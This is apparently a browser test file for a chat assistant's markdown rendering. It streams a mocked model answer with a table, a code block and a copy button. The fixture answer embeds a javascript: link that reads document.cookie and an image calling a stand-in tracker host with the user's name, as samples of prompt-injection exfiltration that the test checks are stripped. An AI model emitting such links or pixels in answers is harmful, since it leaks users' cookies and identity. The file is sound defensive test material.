import { LLMock } from "@copilotkit/aimock";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { browserSuite } from "./suite.ts";
import { SCREENSHOTS, ask, lastReply, openWorkdesk, signIn } from "./workdesk.ts";

const ANSWER = [
  "Here are the **open** requests in ORG-01:",
  "",
  "| Request | Title | Priority |",
  "|---|---|---|",
  "| R-1042 | Badge reader at the north door | high |",
  "| R-1008 | Install second monitor at desk 14 | high |",
  "",
  "To fetch one yourself:",
  "",
  "```sh",
  "curl -H 'Authorization: Bearer $TOKEN' \\",
  "  localhost:8787/api/workdesk/requests/R-1042",
  "```",
  "",
  "More in the [AG-UI docs](https://docs.ag-ui.com). Not a link: [run me](javascript:alert(document.cookie)) ![pixel](https://tracker.example/p.png?who=kim)",
].join("\n");

describe("answers in markdown", () => {
  // A real provider's wire (OpenAI's, served by aimock) streaming the answer in small pieces.
  const mock = new LLMock({ port: 0 });
  const options = { env: {} as Record<string, string> };
  beforeAll(async () => {
    mock.addFixture({ match: { userMessage: /^summarise the open requests$/ }, response: { content: ANSWER }, chunkSize: 6, latency: 2 });
    await mock.start();
    Object.assign(options.env, { TETHER_MODEL: "openai:gpt-4o-mini", OPENAI_API_KEY: "mock", OPENAI_BASE_URL: `${mock.url}/v1` });
  });
  afterAll(() => mock.stop());
  const suite = browserSuite(options);

  it("renders a streamed answer's table, code with a copy button and safe links, without raw markup, scripts or images", async () => {
    const context = await suite.browser().newContext({ viewport: { width: 1400, height: 860 } });
    await context.grantPermissions(["clipboard-read", "clipboard-write"], { origin: suite.server().url });
    const page = await openWorkdesk(context, suite.server().url);
    await signIn(page, "kim");
    await ask(page, "summarise the open requests");
    const answer = page.getByRole("article", { name: "Assistant said" }).last();
    // The first paragraph is finished once the table begins; the same element must still be there at the end (no flicker).
    await answer.locator("table").waitFor();
    await answer
      .locator("p")
      .first()
      .evaluate((paragraph) => ((window as unknown as { first: Element }).first = paragraph));
    await lastReply(page, /AG-UI docs/);

    expect(await answer.locator("strong, [data-streamdown='strong']").first().textContent()).toBe("open");
    expect(await answer.getByRole("table").getByRole("row").count()).toBe(3);
    expect(await answer.getByRole("cell", { name: "R-1042" }).count()).toBe(1);
    expect(await answer.locator("pre code").textContent()).toContain("localhost:8787/api/workdesk/requests/R-1042");
    const link = answer.getByRole("link", { name: "AG-UI docs" });
    expect({ target: await link.getAttribute("target"), rel: await link.getAttribute("rel") }).toEqual({ target: "_blank", rel: "noopener noreferrer" });
    // What a prompt injection could use is gone: the javascript: link is not a link, and no image loads from the model's URL.
    expect(await answer.getByRole("link").count()).toBe(1);
    expect(await answer.locator("img").count()).toBe(0);
    expect(await answer.textContent()).not.toContain("|---|");
    expect(
      await answer
        .locator("p")
        .first()
        .evaluate((paragraph) => paragraph === (window as unknown as { first: Element }).first),
    ).toBe(true);

    await answer.getByRole("button", { name: "Copy Code" }).click();
    await expect.poll(() => page.evaluate(() => navigator.clipboard.readText())).toContain("curl -H 'Authorization: Bearer $TOKEN'");
    await answer.scrollIntoViewIfNeeded();
    await page.screenshot({ path: `${SCREENSHOTS}/panel-markdown.png` });
    await context.close();
  });
});
